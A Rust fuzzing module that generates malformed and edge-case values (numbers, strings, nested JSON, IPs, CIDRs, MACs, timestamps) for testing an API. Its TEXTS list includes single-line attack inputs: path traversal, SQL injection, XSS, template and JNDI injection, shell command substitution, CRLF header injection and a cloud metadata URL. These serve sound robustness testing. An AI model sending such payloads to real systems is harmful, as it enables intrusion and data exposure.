//! Values that break programs.
use super::{chance, pick};
use rand::{Rng as _, rngs::StdRng};
use resource::Kind;
use serde_json::{Value, json};

/// Texts: empty, controls, other scripts, paths, templates, what looks like a number, an address, a time.
pub(super) const TEXTS: &[&str] = &[
    "",
    " ",
    "\0",
    "a\0b",
    "\n",
    "a\r\nX-Injected: yes",
    "\u{202e}abc",
    "\u{feff}",
    "é",
    "İ",
    "💩",
    "\u{10ffff}",
    "../../../etc/passwd",
    "..",
    ".",
    "/",
    "a/b",
    "%2e%2e%2f",
    "file:///etc/passwd",
    "http://169.254.169.254/",
    "'; DROP TABLE servers; --",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://192.0.2.1/a}",
    "$(id)",
    "`id`",
    "%s%n",
    "nan",
    "NaN",
    "Infinity",
    "-1",
    "0",
    "1e400",
    "99999999999999999999",
    "0x10",
    "١٢٣",
    "True",
    "None",
    "null",
    "00000000-0000-0000-0000-000000000000",
    "5e08ea53-c4c6-448e-9334-ac4953de3cf",
    "5E08EA53C4C6448E9334AC4953DE3CFA",
    "0.0.0.0",
    "0.0.0.0/0",
    "255.255.255.255/32",
    "127.0.0.1/8",
    "224.0.0.0/4",
    "10.0.0.0/31",
    "10.0.0.1/32",
    "10.0.0.0/33",
    "010.001.000.001",
    "::",
    "::/0",
    "::1/128",
    "fe80::1",
    "fe80::/64",
    "2001:db8::/127",
    "::ffff:10.0.0.1",
    "00:00:00:00:00:00",
    "ff:ff:ff:ff:ff:ff",
    "01:00:5e:00:00:01",
    "fa:16:3e:zz:00:00",
    "9999-12-31T23:59:59Z",
    "0000-00-00T00:00:00Z",
    "2026-02-30T25:61:61Z",
    "1970-01-01T00:00:00",
    "2026-01-01T00:00:00+99:99",
    "aGVsbG8",
    "====",
    "ssh-rsa AAAA",
    "tcp",
    "256",
    "-6",
    "a,b",
    "in:a,b",
    "gt:",
    "neq:",
    "a:b:c",
    "hw:cpu",
    "CUSTOM_",
    "CUSTOM_a",
];

pub(super) fn number(dice: &mut StdRng) -> Value {
    let all = [
        json!(0),
        json!(-1),
        json!(1),
        json!(65536),
        json!(i32::MAX),
        json!(i64::from(i32::MAX) + 1),
        json!(i64::MAX),
        json!(i64::MIN),
        json!(u64::MAX),
        json!(1.5),
        json!(-0.0),
        json!(1e308),
        json!(9_007_199_254_740_993_i64),
    ];
    pick(dice, &all).clone()
}

pub(super) fn text(dice: &mut StdRng) -> String {
    match dice.random_range(0..12) {
        0 => "a".repeat(256),
        1 => "é".repeat(255),
        2 => "x".repeat(*pick(dice, &[64, 65, 1025, 4096, 65_536, 70_000])),
        3 => (0..8).map(|_| dice.random::<char>()).collect(),
        _ => (*pick(dice, TEXTS)).to_owned(),
    }
}

/// Any value at all; `ids` are some that exist.
pub(super) fn value(dice: &mut StdRng, ids: &[String]) -> Value {
    match dice.random_range(0..14) {
        0 => Value::Null,
        1 => json!(dice.random::<bool>()),
        2 | 3 => number(dice),
        4 => json!([]),
        5 => json!({}),
        6 => json!([[[]]]),
        7 => json!({"": {"": null}}),
        8 => json!({ text(dice): text(dice) }),
        9 => json!([text(dice), number(dice), null]),
        10 if chance(dice, 8) => Value::Array(vec![text(dice).chars().take(300).collect::<String>().into(); 1200]),
        11 => deep(dice.random_range(2..120)),
        12 if !ids.is_empty() => pick(dice, ids).clone().into(),
        _ => text(dice).into(),
    }
}

/// A value that a field of this kind may well hold, at the edge of what it may.
pub(super) fn of_kind(dice: &mut StdRng, kind: &Kind, ids: &[String]) -> Value {
    let among = |dice: &mut StdRng, all: &[&str]| Value::from(*pick(dice, all));
    match kind {
        Kind::Bool | Kind::StrictBool => json!(dice.random::<bool>()),
        Kind::Int { min, max } => {
            let edges =
                [*min, *max, min.saturating_add(1), max.saturating_sub(1), min.saturating_sub(1), max.saturating_add(1), 0, 1];
            json!(*pick(dice, &edges))
        }
        Kind::Number => number(dice),
        Kind::Name { max } => of_kind(dice, &Kind::Text { min: 1, max: *max }, ids),
        Kind::Text { min, max } => {
            let length = *pick(dice, &[*min, *max, max.saturating_add(1).min(70_000), 1, 8]);
            (*pick(dice, &["a", "é", "💩", " ", "a,b", "../"]))
                .chars()
                .cycle()
                .take(length.min(70_000))
                .collect::<String>()
                .into()
        }
        Kind::Choice(set) => among(dice, set),
        Kind::Uuid => pick(dice, ids).clone().into(),
        Kind::Ip => among(
            dice,
            &["10.1.0.77", "10.1.0.0", "10.1.0.255", "0.0.0.0", "172.24.0.9", "2001:db8::1", "::ffff:10.0.0.1", "fe80::1"],
        ),
        Kind::Cidr => among(
            dice,
            &["10.3.0.0/24", "10.3.0.0/31", "10.3.0.7/32", "0.0.0.0/0", "2001:db8:9::/64", "2001:db8:9::/127", "::/0"],
        ),
        Kind::Mac => among(dice, &["fa:16:3e:00:00:09", "00:00:00:00:00:00", "ff:ff:ff:ff:ff:ff", "FA-16-3E-00-00-09"]),
        Kind::Time => {
            among(dice, &["2099-01-01T00:00:00Z", "1970-01-01T00:00:00Z", "9999-12-31T23:59:59.999999Z", "2026-06-30T23:59:60Z"])
        }
        Kind::List(kind) => (0..dice.random_range(0..4)).map(|_| of_kind(dice, kind, ids)).collect(),
        Kind::TextMap => json!({ text(dice): text(dice) }),
        Kind::Object => json!({ "a": value(dice, ids) }),
        Kind::Any => value(dice, ids),
        Kind::Optional(kind) => {
            if chance(dice, 4) {
                Value::Null
            } else {
                of_kind(dice, kind, ids)
            }
        }
    }
}

fn deep(levels: usize) -> Value {
    (0..levels).fold(json!(1), |inner, i| if i % 2 == 0 { json!([inner]) } else { json!({"a": inner}) })
}
